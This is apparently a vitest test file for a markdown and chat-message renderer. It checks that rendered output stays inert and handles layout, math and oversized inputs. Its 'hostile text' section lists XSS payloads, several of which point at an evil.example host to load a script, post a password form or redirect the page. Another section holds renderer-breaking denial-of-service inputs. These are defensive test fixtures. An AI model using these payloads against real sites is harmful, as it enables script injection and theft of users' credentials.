import { parseHTML } from 'linkedom'
import { describe, expect, test } from 'vitest'
import { renderMarkdown, renderMessage } from './render-markdown'

function parse(text: string, render = renderMarkdown) {
  const { document } = parseHTML(`<!doctype html><html><body>${render(text)}</body></html>`)
  return document.body
}

const TAGS =
  /^(p|br|hr|em|strong|del|sup|code|pre|blockquote|ul|ol|li|span|div|section|h[3-6]|table|thead|tbody|tr|th|td)$/
const MATH = /^(math|semantics|m[a-z]+)$/
const HARMLESS =
  /^(class|dir|lang|role|aria-label|tabindex|align|start|display|width|mathvariant|stretchy|scriptlevel|displaystyle)$/

/** Whether nothing in it could run, load, lead away or identify. */
function expectInert(body: ReturnType<typeof parse>) {
  for (const element of body.querySelectorAll('*')) {
    expect(element.localName).toMatch(new RegExp(`${TAGS.source}|${MATH.source}`))
    for (const { name } of element.attributes)
      expect(`${element.localName} ${name}`).toMatch(new RegExp(` ${HARMLESS.source.slice(1)}`))
  }
}

describe('hostile text', () => {
  test.each([
    '<script>alert(1)</script>',
    'hi <script src="//evil.example/x.js"></script> there',
    '<img src=x onerror=alert(1)>',
    '<svg/onload=alert(1)><animate onbegin=alert(1)></svg>',
    '<svg><style><img src=x onerror=alert(1)></style></svg>',
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
    '<iframe src="javascript:alert(1)"></iframe>',
    '<form action="https://evil.example"><input name=password></form>',
    '<meta http-equiv="refresh" content="0;url=https://evil.example">',
    '<base href="https://evil.example/"><link rel=stylesheet href=x>',
    '<div style="position:fixed;inset:0" id="verdict" class="btn">x</div>',
    '[click](javascript:alert(1))',
    '[click](JaVaScRiPt&colon;alert(1))',
    '[click](data:text/html;base64,PHNjcmlwdD4= "title")',
    '<javascript:alert(1)>',
    '![x](https://evil.example/pixel.png)',
    '![x"onerror="alert(1)](x)',
    '[ref]\n\n[ref]: javascript:alert(1)',
    '```"><script>alert(1)</script>\ncode\n```',
    '```language-math math-inline hljs" onclick="x\ncode\n```',
    '~~~html\n</code></pre><script>alert(1)</script>\n~~~',
    '`</code><img src=x onerror=alert(1)>`',
    '$\\href{javascript:alert(1)}{x}$ $\\htmlClass{btn}{x}$ $\\htmlId{verdict}{x}$ $\\includegraphics{https://evil.example/x.png}$',
    '$$\\style{color:red}{x} \\text{<img src=x onerror=alert(1)>}$$',
    '$\\rule{900em}{900em} \\kern-900em \\raisebox{900em}{x}$',
    '[^note]\n\n[^note]: <b onclick=alert(1)>x</b>',
    '| <img src=x onerror=alert(1)> |\n|---|\n| [x](javascript:alert(1)) |',
    '- [x] <input autofocus onfocus=alert(1)>',
    '&lt;script&gt;alert(1)&lt;/script&gt; &#60;script&#62;',
    'www.example.com/<script>alert(1)</script> http://a.example/"onmouseover="alert(1)',
  ])('%s', (text) => {
    for (const render of [renderMarkdown, renderMessage]) {
      const body = parse(text, render)
      expectInert(body)
      expect(body.textContent).not.toBe('')
    }
  })

  test('raw HTML is shown as the characters it is made of', () => {
    expect(parse('a <b onclick="x()">bold</b> c').textContent).toBe('a <b onclick="x()">bold</b> c')
    expect(parse('<!-- hidden -->\n\n<details>\ninside\n</details>').textContent).toContain('<!-- hidden -->')
  })

  test('two panes with the same footnotes share no id', () => {
    expect(renderMarkdown('x[^1]\n\n[^1]: note\n\n# Heading')).not.toMatch(/\b(id|name|for|href|aria-\w+by)=/)
  })
})

describe('what would be swallowed is shown', () => {
  test('links and images with their addresses', () => {
    const body = parse('[the docs](https://docs.example/a) and ![a cat](https://img.example/cat.png)')
    expect(body.textContent).toBe('the docs (https://docs.example/a) and [image: a cat] (https://img.example/cat.png)')
  })
  test('an address that is its own text is shown once', () => {
    expect(parse('<https://docs.example>').textContent).toBe('https://docs.example')
  })
  test('definitions that nothing refers to', () => {
    expect(parse('a\n\n[b]: https://b.example "B"').textContent).toContain('[b]: https://b.example "B"')
    expect(parse('a\n\n[^c]: note').textContent).toContain('[^c]:')
  })
  test('footnotes', () => {
    const body = parse('Said[^1].\n\n[^1]: By whom')
    expect(body.querySelector('sup')?.textContent).toBe('1')
    expect(body.querySelector('.footnotes li')?.textContent.trim()).toBe('By whom')
  })
  test('single line breaks', () => {
    expect(parse('one\ntwo\r\nthree').querySelectorAll('br')).toHaveLength(2)
  })
  test('ticks of a task list', () => {
    expect(parse('- [ ] to do\n- [x] done').textContent).toMatch(/☐ to do\s+☑ done/)
  })
})

describe('layout', () => {
  test('lists, code and tables', () => {
    const body = parse(
      '- one\n- two\n\n3. three\n\n```python\ndef f(): pass\n```\n\n| a | b |\n|---|---|\n| x | 1,200 |',
    )
    expect(body.querySelectorAll('ul > li')).toHaveLength(2)
    expect(body.querySelector('ol')?.getAttribute('start')).toBe('3')
    expect(body.querySelector('pre[tabindex="0"][aria-label="Code"] .hljs-keyword')?.textContent).toBe('def')
    const frame = body.querySelector('div.table[tabindex="0"][role="group"]')
    expect([...(frame?.querySelectorAll('td') ?? [])].map((cell) => cell.getAttribute('align'))).toEqual([
      null,
      'right',
    ])
  })
  test('headings begin below the pane’s and skip no level', () => {
    const names = [...parse('#### A\n\n# B\n\n###### C\n\n## D').querySelectorAll('h1,h2,h3,h4,h5,h6')].map(
      (h) => h.localName,
    )
    expect(names).toEqual(['h3', 'h3', 'h4', 'h4'])
  })
  test('right-to-left text reads from the right', () => {
    const body = parse('مرحبا\n\n- واحد\n- اثنان\n\n- [x] latin')
    expect(body.querySelector('p')?.getAttribute('dir')).toBe('auto')
    expect(body.querySelector('ul')?.getAttribute('dir')).toBe('rtl')
    expect(parse('- one').querySelector('ul')?.hasAttribute('dir')).toBe(false)
  })
  test('Korean is marked, a table that reads from the right scrolls from there', () => {
    const korean = parse('안녕하세요\n\nHello\n\n- *둘*\n- two')
    expect([...korean.querySelectorAll('[lang=ko]')].map(({ textContent }) => textContent)).toEqual([
      '안녕하세요',
      '둘',
    ])
    expect(parse('| א |\n|---|\n| ב |').querySelector('div.table')?.getAttribute('dir')).toBe('rtl')
  })

  test('nothing to see is no text at all', () => {
    expect(['', '  \n\t', '\u200B\u2060'].map(renderMarkdown)).toEqual(['', '', ''])
  })
})

describe('mathematics', () => {
  test.each(['$x^2$', '\\(x^2\\)'])('%s stands in the line', (text) => {
    const math = parse(`a ${text} b`).querySelector('p > math')
    expect(math?.querySelector('msup')?.textContent).toBe('x2')
    expect(math?.hasAttribute('display')).toBe(false)
  })
  test.each(['$$x^2$$', '$$\nx^2\n$$', '\\[x^2\\]', '\\[\nx^2\n\\]', '```math\nx^2\n```'])(
    '%j stands alone',
    (text) => {
      expect(parse(text).querySelector('.math[tabindex="0"] > math[display="block"] msup')).not.toBeNull()
    },
  )
  test.each([
    'costs $5 and **$10** a month',
    'from $5-$10',
    'US$ and $ and A$',
    'a \\( without end',
    'a \\[ without end',
    '$ x $',
  ])('%s has no formula', (text) => {
    const body = parse(text)
    expect(body.querySelector('math')).toBeNull()
    expect(body.textContent).toContain(text.replaceAll('**', '').replaceAll('\\', '').slice(0, 4))
  })
  test('prices leave emphasis alone', () => {
    expect(parse('**$5** or **$10**').querySelectorAll('strong')).toHaveLength(2)
  })
  test.each(['\\frac{1}{', '\\nosuchcommand{x}', '\\href{https://a.example}{b}'])(
    'broken TeX %s shows its source',
    (tex) => {
      const body = parse(`so $${tex}$ follows`)
      expect(body.textContent).toBe(`so ${tex} follows`)
    },
  )
})

describe('texts made to break renderers', () => {
  const LONG = 200_000
  test.each([
    ['nested quotes', `${'>'.repeat(10_000)}a`],
    ['nested lists in one line', `${'- '.repeat(10_000)}a`],
    ['nested lists by indentation', Array.from({ length: 440 }, (_, i) => `${' '.repeat(i * 2)}- a`).join('\n')],
    ['nested emphasis', `${'*a **b '.repeat(200)}${'c** d* '.repeat(200)}`],
    ['a table that fills up', `${'|a'.repeat(300)}|\n${'|-'.repeat(300)}|\n${'a\n'.repeat(300)}`],
    ['200,000 characters of prose', 'The quick brown fox.\n\n'.repeat(LONG / 22)],
    ['200,000 brackets', ']'.repeat(LONG)],
    ['closing brackets, quadratic in the parser', ']'.repeat(50_000)],
  ])('%s', (_name, text) => {
    for (const render of [renderMarkdown, renderMessage])
      expect(parse(text, render).querySelector('pre.plain')?.textContent).toBe(text)
  })
  test('nested TeX shows its source', () => {
    const tex = '{'.repeat(20_000)
    expect(parse(`$$\n${tex}\n$$`).textContent).toBe(tex)
  })
  test('a long address referred to often does not multiply', () => {
    const html = renderMarkdown(`[a]: https://x.example/${'y'.repeat(20_000)}\n\n${'[a] '.repeat(200)}`)
    expect(html.length).toBeLessThan(100_000)
  })
  test('bidi overrides and zero-width characters stay text', () => {
    expect(parse('a\u202Eb\u200Bc').textContent).toBe('a\u202Eb\u200Bc')
    expect(renderMarkdown('a\0b')).not.toContain('\0')
  })
})
